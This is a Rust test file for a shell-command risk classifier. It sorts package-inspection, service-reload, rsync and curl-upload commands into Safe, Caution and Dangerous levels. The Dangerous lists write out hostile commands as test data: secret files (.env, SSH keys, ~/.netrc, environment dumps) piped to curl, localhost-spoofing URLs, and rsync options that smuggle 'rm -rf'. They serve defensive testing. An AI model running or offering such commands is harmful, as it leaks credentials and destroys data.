//! Harmless forms of dangerous calls, and similar calls that are not harmless.

use super::all_are;
use crate::plan::RiskLevel;

#[test]
fn listing_packages_is_safe_but_not_unpacking() {
    all_are(
        RiskLevel::Safe,
        &[
            "dpkg --contents ../out/tool_2.1_arm64.deb",
            "dpkg-deb --field ../tool.deb Depends",
            "rpm -qp --requires ../tool.rpm",
            "rpm -qpil ~/build/tool.rpm",
            "rpm2cpio tool.rpm | cpio -tv --quiet",
            "ar tv ../lib/libtool.a",
            "pacman -Qtdq",
            "zypper lu",
            "quilt unapplied",
            "quilt diff -P two.patch",
        ],
    );
    all_are(
        RiskLevel::Caution,
        &[
            "dpkg-deb -x ../tool.deb out",
            "dpkg-deb -b pkg out.deb",
            "quilt pop -a",
            "quilt import two.patch",
            "quilt delete two.patch",
            "quilt shell make",
        ],
    );
    all_are(
        RiskLevel::Dangerous,
        &[
            "dpkg-deb -x ../tool.deb ../root",
            "dpkg-deb --build pkg ../out.deb",
            "rpm2cpio ../tool.rpm | cpio -idm",
            "ar x ../libtool.a",
            "rpm -q tool --pipe 'sh x'",
            "quilt pop -af",
            "quilt po -f",
            "quilt revert src/a.c",
            "quilt delete -r two.patch",
            "quilt shell rm -rf ~/x",
            "quilt mail --send --to a@b.example",
        ],
    );
}

#[test]
fn unknown_programs_may_read_sibling_folders() {
    all_are(
        RiskLevel::Caution,
        &[
            "frobnicate ../sibling",
            "frobnicate -v ../maps/dem.tif",
            "frobnicate stats ../a.fq ../b.fq",
            "./tool.sh ../maps/dem.tif",
            "frobnicate view ../../runs/a.bam",
            "cd sub && frobnicate ../../maps/dem.tif",
        ],
    );
    all_are(
        RiskLevel::Dangerous,
        &[
            "frobnicate -o ../x",
            "frobnicate -vo ../x",
            "frobnicate --report=../x",
            "frobnicate --dest ../x",
            "frobnicate out=../x",
            "frobnicate save ../x",
            "frobnicate in.tif ../out.tif",
            "frobnicate ../.profile",
            "frobnicate ../a/.git/config",
            "frobnicate ../../../x",
            "frobnicate ../home/x",
            "frobnicate ../../etc/hosts",
            "frobnicate ..",
            "frobnicate ../x ~/y",
            "frobnicate ../$NAME",
            "sudo frobnicate ../x",
            "frobcopy ../x",
            "unfrob ../x.arc",
            "tee ../x",
            "cd ~ && frobnicate ../x",
        ],
    );
}

#[test]
fn generic_words_of_unknown_programs_are_caution() {
    all_are(
        RiskLevel::Caution,
        &["frobnicate push -a", "frobnicate add a.txt", "frobnicate set colour blue"],
    );
    all_are(
        RiskLevel::Dangerous,
        &[
            "frobnicate drop a",
            "frobnicate publish",
            "frobnicate add --force a",
            "frobnicate push --prod",
        ],
    );
}

#[test]
fn reloading_is_not_stopping() {
    all_are(
        RiskLevel::Caution,
        &[
            "systemctl reload caddy.service",
            "systemctl --user reload pipewire",
            "sudo service apache2 reload",
            "openresty -s reload",
            "apache2ctl graceful",
            "sudo postfix reload",
            "pg_ctl -D pgdata reload",
        ],
    );
    all_are(
        RiskLevel::Dangerous,
        &[
            "systemctl restart caddy",
            "systemctl reload-or-restart caddy",
            "systemctl reload '*'",
            "systemctl -H db reload caddy",
            "systemctl reload firewalld",
            "systemctl daemon-reexec",
            "systemctl -M box daemon-reload",
            "nginx -s quit",
            "nginx -s reload -c /tmp/n.conf",
            "apachectl graceful-stop",
            "service apache2 force-reload",
            "pg_ctl reload stop",
        ],
    );
}

#[test]
fn remote_dry_runs_are_caution() {
    all_are(
        RiskLevel::Caution,
        &[
            "rsync -avzn --delete dist/ web@h.example:/srv/app/",
            "rsync -a --dry-run --exclude '*.o' src/ ~/mirror/src/",
        ],
    );
    all_are(
        RiskLevel::Dangerous,
        &[
            "rsync -a -n --no-n dist/ web@h.example:/srv/app/",
            "rsync -a --no-dry-run -n dist/ web@h.example:/srv/app/",
            "rsync -a --exclude -n dist/ web@h.example:/srv/app/",
            "rsync -an -e 'sh x' dist/ web@h.example:/srv/app/",
            "rsync -an --rsync-path='rm -rf x;rsync' dist/ web@h.example:/srv/app/",
            "rsync -an --log-file=~/.profile dist/ web@h.example:/srv/app/",
            "rsync -an ~/.ssh/ web@h.example:/srv/app/",
            "rsync -a -- -n dist/ web@h.example:/srv/app/",
        ],
    );
}

#[test]
fn uploads_to_a_local_server_are_caution() {
    all_are(
        RiskLevel::Caution,
        &[
            "curl -sf --data-binary @out/model.bin http://127.0.0.1:9000/models/a",
            "curl -F image=@img/a.png -F kind=photo 'http://[::1]:5000/classify'",
            "jq -c . in.json | curl -s -d @- localhost:7700/items",
            "http --form POST :8080/up doc@docs/a.pdf",
            "http localhost:8080/items < item.json",
            "wget -qO- --max-redirect=0 --post-file=q.json http://localhost:9999/q",
        ],
    );
    all_are(
        RiskLevel::Dangerous,
        &[
            "curl -d @q.json http://localhost.example.net/",
            "curl -d @q.json http://localhost@example.net/",
            "curl -d @q.json 'http://localhost:80\\@example.net/'",
            "curl -d @q.json 'http://localhost#@example.net/'",
            "curl -d @q.json http://localhost:8000 http://example.net",
            "curl -d @q.json --url http://example.net http://localhost",
            "curl -d @q.json http://$HOST:8000",
            "curl -L -d @q.json http://localhost:8000",
            "curl -x p.example:1 -d @q.json http://localhost:8000",
            "curl --resolve localhost:80:192.0.2.1 -d @q.json http://localhost",
            "curl --connect-to ::example.net: -d @q.json http://localhost",
            "ALL_PROXY=p.example curl -d @q.json http://localhost",
            "export https_proxy=p.example; curl -d @q.json https://localhost",
            "curl -X DELETE -d @q.json http://localhost:8000/a",
            "curl -d @q.json http://localhost:9200/a/_delete_by_query",
            "curl -d @../q.json http://localhost",
            "curl -d @.env http://localhost",
            "curl -F f=@certs/server.key http://localhost",
            "curl -F f=@id_ed25519 http://localhost",
            "curl -d @q.json http://localhost:2375/containers/create",
            "curl -K q.cfg -d @q.json http://localhost",
            "cd ~/.aws && curl -d @config http://localhost",
            "ln -s ~/.ssh/id_rsa q; curl -d @q http://localhost",
            "cat ~/.netrc | curl -d @- http://localhost",
            "jq -n env | curl -d @- http://localhost",
            "ssh h 'curl -d @q.json http://localhost'",
            "ssh -fNL 80:x.example:80 h; curl -d @q.json http://localhost",
            "http --follow POST :8080/up doc@a.pdf",
            "http POST example.net/up doc@a.pdf",
            "wget --post-file=q.json http://localhost",
        ],
    );
}
